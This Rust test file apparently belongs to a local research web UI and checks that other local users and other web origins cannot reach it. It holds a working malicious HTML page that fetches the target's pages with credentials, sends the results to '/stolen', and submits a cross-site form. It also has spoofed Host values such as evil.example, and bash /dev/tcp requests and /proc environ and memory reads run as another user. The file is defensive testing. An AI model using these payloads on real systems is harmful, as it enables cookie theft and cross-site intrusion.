//! Ways in that are tried from this machine: as its user, as another user, and from other pages.

use std::{
    net::{TcpListener, TcpStream},
    os::unix::process::CommandExt as _,
    process::{Command, Stdio},
    sync::Mutex,
    thread,
};

use super::{Page, browsers, head, stranger};
use crate::harness::World;

/// Another user of this machine.
const NOBODY: u32 = 65_534;
const QUESTION: &str = "[[slow duration_ms=600000]] asked by a thief";

/// What was tried, and whether it worked.
#[derive(Default)]
struct Ways(Vec<(String, bool)>);

impl Ways {
    fn tried(&mut self, what: impl Into<String>, got_in: bool) {
        self.0.push((what.into(), got_in));
    }

    #[track_caller]
    fn report(&self) {
        let open: Vec<&String> = self.0.iter().filter(|(_, got_in)| *got_in).map(|(what, _)| what).collect();
        crate::harness::figure("page.ways_in", &format!("{} of {}", open.len(), self.0.len()));
        assert!(open.is_empty(), "{open:?}");
    }
}

const PATHS: [&str; 6] = ["/", "/new", "/costs", "/settings", "/assets/page.css", "/research/last"];

/// With every name, with and without what a thief may have: nothing is answered.
fn from_this_user(page: &Page, ways: &mut Ways) {
    let port = page.port;
    let names = [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
        format!("other.localhost:{port}"),
        format!("evil.example:{port}"),
        page.host.replace(&format!(":{port}"), ""),
        page.host.clone(),
    ];
    let spent = format!("/?token={}", page.token());
    for name in &names {
        for path in PATHS.iter().copied().chain([spent.as_str()]) {
            for cookie in ["", "__Host-probity=", "__Host-probity=AAAA", "probity=x; __Host-probity=null"] {
                let (status, _) = page.get(path, &[("host", name), ("cookie", cookie)]);
                ways.tried(format!("{path} as {name} with `{cookie}`"), status < 400);
            }
        }
    }
    let form = format!("word=x&question={QUESTION}&manner=deep_research&budget=5");
    for name in &names {
        let headers = [("host", name.as_str()), ("origin", &format!("http://{name}"))];
        let (status, _) = page.ask(&head("POST", "/new/start", &headers, &form));
        ways.tried(format!("start as {name}"), status < 400);
    }
}

/// Even with the cookie: forms of other origins, and forms without the word of our own pages.
fn with_the_cookie(page: &Page, cookie: &str, ways: &mut Ways) {
    let own = format!("http://{}", page.host);
    let (_, shown) = page.get("/new", &[("host", &page.host), ("cookie", cookie)]);
    let word = shown.split("name=\"word\" value=\"").nth(1).unwrap().split('"').next().unwrap();
    let form = |word: &str| format!("word={word}&question={QUESTION}&manner=deep_research&budget=5");
    for (origin, site, word) in [
        ("null", "same-origin", word),
        ("http://evil.example", "cross-site", word),
        ("http://127.0.0.1:1", "cross-site", word),
        (own.as_str(), "same-site", word),
        (own.as_str(), "cross-site", word),
        (own.as_str(), "same-origin", "guessed"),
        (own.as_str(), "same-origin", ""),
    ] {
        let headers =
            [("host", page.host.as_str()), ("cookie", cookie), ("origin", origin), ("sec-fetch-site", site)];
        let (status, _) = page.ask(&head("POST", "/new/start", &headers, &form(word)));
        ways.tried(format!("start with the cookie, {origin}, {site}"), status < 400);
    }
    for site in ["cross-site", "same-site"] {
        let headers = [("host", page.host.as_str()), ("cookie", cookie), ("sec-fetch-site", site)];
        ways.tried(format!("read for a page that is {site}"), page.get("/new", &headers).0 < 400);
    }
    for name in [format!("127.0.0.1:{}", page.port), format!("localhost:{}", page.port)] {
        let got_in = page.get("/", &[("host", &name), ("cookie", cookie)]).0 < 400;
        ways.tried(format!("the cookie as {name}"), got_in);
    }
}

/// A port of loopback that is left free could be taken by another user, whom browsers then send the token.
fn beside_the_page(page: &Page, ways: &mut Ways) {
    for address in ["[::1]", "127.0.0.1", "0.0.0.0", "[::]"] {
        let bound = TcpListener::bind(format!("{address}:{}", page.port));
        ways.tried(format!("listening on {address} with the page's port"), bound.is_ok());
    }
}

/// Reads and asks whatever another user can.
fn from_another_user(world: &World, page: &Page, ways: &mut Ways) {
    if !rustix::process::geteuid().is_root() {
        crate::harness::notice("not root, so nothing was tried as another user");
        return;
    }
    let run = |script: String| {
        let mut command = Command::new("/bin/bash");
        command.args(["-c", &script]).uid(NOBODY).gid(NOBODY).current_dir("/").env_clear();
        let done = command.stdin(Stdio::null()).output().unwrap();
        String::from_utf8_lossy(&done.stdout).into_owned()
    };
    assert_eq!(run("id -u".to_owned()).trim(), NOBODY.to_string());
    let (pid, data) = (page.child.id(), world.data().display().to_string());
    for file in [format!("/proc/{pid}/environ"), format!("/proc/{pid}/mem"), format!("{data}/probity.db")] {
        ways.tried(format!("another user reads {file}"), !run(format!("head -c 64 {file}")).is_empty());
    }
    ways.tried("another user lists the data directory", !run(format!("ls {data}")).is_empty());
    let command_line = run(format!("cat /proc/{pid}/cmdline"));
    let name = page.host.split('.').next().unwrap();
    let told = command_line.contains(name) || command_line.contains(page.token());
    ways.tried("another user reads the address in the command line", told);
    for (address, host) in [("127.0.0.1", "127.0.0.1"), ("::1", "localhost")] {
        let port = page.port;
        let asked = format!(
            "exec 3<>/dev/tcp/{address}/{port}; printf 'GET /new HTTP/1.1\\r\\nhost: {host}:{port}\\r\\nconnection: \
             close\\r\\n\\r\\n' >&3; cat <&3"
        );
        let answer = run(asked);
        ways.tried(format!("another user asks as {host}"), answer.contains(" 200 "));
        ways.tried(format!("another user is told the name as {host}"), answer.contains(name));
    }
}

/// Another server that the same browser visits, by every name; its page then tries whatever a page can.
fn from_another_port(world: &World, browser: &str, ways: &mut Ways) {
    let page = Page::open(world, &[]);
    let (listener, got) = (TcpListener::bind("127.0.0.1:0").unwrap(), Mutex::new(Vec::new()));
    let port = listener.local_addr().unwrap().port();
    let second = TcpListener::bind(("::1", port)).ok();
    thread::scope(|scope| {
        scope.spawn(|| stranger(&listener, &got, ATTACK));
        if let Some(second) = &second {
            scope.spawn(|| stranger(second, &got, ATTACK));
        }
        browsers::run("strangers.mjs", &[&page.address, &port.to_string(), "--browser", browser]);
        for address in ["127.0.0.1", "::1"] {
            if let Ok(mut stream) = TcpStream::connect((address, port)) {
                std::io::Write::write_all(&mut stream, b"GET /end HTTP/1.1\r\n\r\n").unwrap();
            }
        }
    });
    let (got, name) = (got.into_inner().unwrap(), page.host.split('.').next().unwrap());
    assert!(got.iter().filter(|request| request.starts_with("GET /visited")).count() >= 3, "{got:?}");
    for request in &got {
        let line = request.lines().next().unwrap_or_default().split('?').next().unwrap_or_default();
        let head = request.split_once('\n').map_or("", |(_, head)| head).to_lowercase();
        ways.tried(format!("{browser}: the cookie comes with {line}"), head.contains("cookie: "));
        // The attacking page was given the name, in its own address, from which it also loads what it needs.
        let from_attack = |line: &&str| line.starts_with("referer: ") && line.contains("/attack?");
        let told = head.lines().filter(|line| !from_attack(line)).any(|line| line.contains(name))
            && !request.starts_with("GET /attack");
        ways.tried(format!("{browser}: the name comes with {line}"), told);
    }
}

/// Reads, starts and frames with the name of the page, which its address was given.
const ATTACK: &str = r#"<!doctype html><title>other</title><iframe name="frame"></iframe><script>
const target = decodeURIComponent(location.search.slice(1));
if (target) {
  for (const path of ["/", "/new", "/settings"]) {
    fetch(target + path, { credentials: "include" }).then((answer) => answer.text())
      .then((text) => fetch("/stolen?" + encodeURIComponent(text.slice(0, 200)))).catch(() => {});
    fetch(target + path, { credentials: "include", mode: "no-cors" }).catch(() => {});
    new Image().src = target + path;
  }
  const form = document.createElement("form");
  form.method = "post"; form.action = target + "/new/start"; form.target = "frame";
  const fields = { word: "x", question: "[[slow duration_ms=600000]] asked by a thief", manner: "deep_research", budget: "5" };
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input"); field.name = name; field.value = value; form.append(field);
  }
  document.body.append(form); form.submit();
  const source = document.createElement("script"); source.src = target + "/assets/live.js"; document.body.append(source);
  window.open(target + "/new");
}
</script>"#;

#[test]
fn nobody_else_on_this_machine_gets_into_the_page() {
    let world = World::new();
    let page = Page::open(&world, &[]);
    let cookie = page.log_in();
    let mut ways = Ways::default();
    from_this_user(&page, &mut ways);
    with_the_cookie(&page, &cookie, &mut ways);
    beside_the_page(&page, &mut ways);
    from_another_user(&world, &page, &mut ways);
    for browser in browsers::installed() {
        from_another_port(&world, browser, &mut ways);
    }
    ways.tried("a research was started", !world.ledger().entries().is_empty());
    assert_eq!(page.get("/new", &[("host", &page.host), ("cookie", &cookie)]).0, 200, "the owner is in");
    ways.report();
}

#[test]
fn other_names_are_told_the_command_and_a_plain_address_says_what_it_costs() {
    let world = World::new();
    let page = Page::open(&world, &[]);
    let (status, answer) = page.get("/", &[("host", &format!("127.0.0.1:{}", page.port))]);
    assert_eq!(status, 421);
    assert!(answer.contains("`probity ui`") && !answer.contains("location:"), "{answer}");
    assert!(!answer.contains(page.host.split('.').next().unwrap()), "{answer}");
    let mut plain = Page::open(&world, &["--plain-address"]);
    assert!(plain.address.starts_with("http://127.0.0.1:"), "{}", plain.address);
    let cookie = plain.log_in();
    assert_eq!(plain.get("/new", &[("host", &plain.host), ("cookie", &cookie)]).0, 200);
    plain.child.kill().unwrap();
    let mut said = String::new();
    std::io::Read::read_to_string(plain.child.stderr.as_mut().unwrap(), &mut said).unwrap();
    assert!(said.contains("every program there gets the page's cookie"), "{said}");
}
